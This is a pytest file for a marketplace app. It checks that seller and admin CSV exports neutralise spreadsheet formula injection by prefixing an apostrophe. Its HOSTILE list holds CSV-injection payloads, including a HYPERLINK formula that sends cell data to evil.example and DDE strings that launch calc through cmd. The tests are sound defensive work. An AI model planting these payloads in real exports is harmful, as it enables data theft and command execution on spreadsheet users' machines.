"""Every CSV the store writes keeps a spreadsheet from running a cell (OWASP "CSV injection"):
the seller's product export, the seller's monthly statement and the admin's payout batch, each
downloaded with hostile text in every column a person can write."""
from __future__ import annotations

import csv
import io
import re

import pytest

from marketplace import csvexport
from marketplace.catalog.models import Shop
from marketplace.extensions import db
from marketplace.ledger import payouts
from marketplace.timeutil import utcnow
from tests.admin.helpers import make_admin, two_shop_products
from tests.conftest import submit
from tests.ledger.helpers import released_balance, with_bank_account
from tests.ledger.test_authorization import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_INTEGER = re.compile(r"-?\d+")


def cells_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_nothing_runs(rows: list[list[str]]) -> None:
    """No cell starts as a formula would, but whole numbers (a debit is -5000, and stays a
    number the spreadsheet can add up)."""
    for row in rows:
        for cell in row:
            if cell[:1] in csvexport.FORMULA_START:
                assert _INTEGER.fullmatch(cell), f"a spreadsheet would run {cell!r}"


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_an_apostrophe_and_restore_takes_it_back(text):
    assert csvexport.neutralise(text) == "'" + text
    assert csvexport.restore(csvexport.neutralise(text)) == text
    assert csvexport.neutralise("Tenun ikat") == "Tenun ikat"
    assert csvexport.restore("'Tenun") == "'Tenun"  # an apostrophe of the seller's own stays


def test_numbers_stay_numbers_and_missing_values_are_empty():
    text = "".join(csvexport.rows_as_csv(["a", "b", "c"], [[-5000, None, "=1"]]))
    assert text == "a,b,c\r\n-5000,,'=1\r\n"


@pytest.mark.parametrize("hostile", HOSTILE[:3])
def test_the_statement_csv_neutralises_a_payout_reference(app, hostile):
    tenun, _ = two_shop_products()
    with_bank_account(tenun.shop_id)
    released_balance(app, [tenun])
    batch = payouts.build_batch(actor_id=None)
    db.session.commit()
    payouts.settle(batch.payouts[0].id, paid=True, reference=hostile)
    db.session.commit()

    owner = login(app, "ina@contoh.id")
    rows = cells_of(owner.get(f"/seller/balance/statement.csv?month={utcnow():%Y-%m}"))
    assert_nothing_runs(rows)
    references = [row[3] for row in rows[1:] if row[3]]
    assert references and set(references) == {"'" + hostile.strip()}
    assert any(cell.startswith("-") for row in rows[1:] for cell in row[4:])  # debits stay numbers


def test_the_payout_batch_csv_neutralises_every_text_column(app, client, login_as):
    tenun, _ = two_shop_products()
    with_bank_account(tenun.shop_id)
    shop = db.session.get(Shop, tenun.shop_id)
    shop.name, shop.bank_name = HOSTILE[0], HOSTILE[1]
    shop.bank_account_holder, shop.bank_account_number = HOSTILE[2], HOSTILE[3]
    db.session.commit()
    released_balance(app, [tenun])
    login_as(make_admin())
    response = submit(client, "/admin/payouts/batches", {}, form_url="/admin/payouts")
    rows = cells_of(client.get(response.headers["Location"] + ".csv"))
    assert_nothing_runs(rows)
    assert rows[1][1:5] == ["'" + text for text in HOSTILE[:4]]


def test_the_product_export_neutralises_every_text_column(client, login_as):
    from tests.factories import make_product, make_shop, make_user

    user = make_user()
    shop = make_shop(owner=user)
    product = make_product(shop, name=HOSTILE[0])
    variant = product.variants[0]
    variant.sku, variant.name, variant.packaging_description = HOSTILE[1], HOSTILE[2], HOSTILE[3]
    db.session.commit()
    login_as(user)
    rows = cells_of(client.get("/seller/products.csv"))
    assert_nothing_runs(rows)
    header = rows[0]
    cells = dict(zip(header, rows[1], strict=True))
    assert [cells[name] for name in ("product_name", "sku", "option_name",
                                     "packaging_description")] == ["'" + t for t in HOSTILE[:4]]
